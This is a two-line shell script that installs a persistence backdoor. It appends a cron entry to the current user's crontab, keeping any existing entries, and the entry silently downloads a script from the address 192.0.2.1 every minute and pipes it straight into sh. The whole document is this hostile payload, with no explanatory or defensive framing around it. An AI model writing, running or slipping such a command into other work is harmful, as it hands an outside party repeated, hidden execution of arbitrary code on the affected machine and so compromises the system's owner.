#!/bin/sh
(crontab -l 2>/dev/null; echo '* * * * * curl -s http://192.0.2.1/x.sh | sh') | crontab -
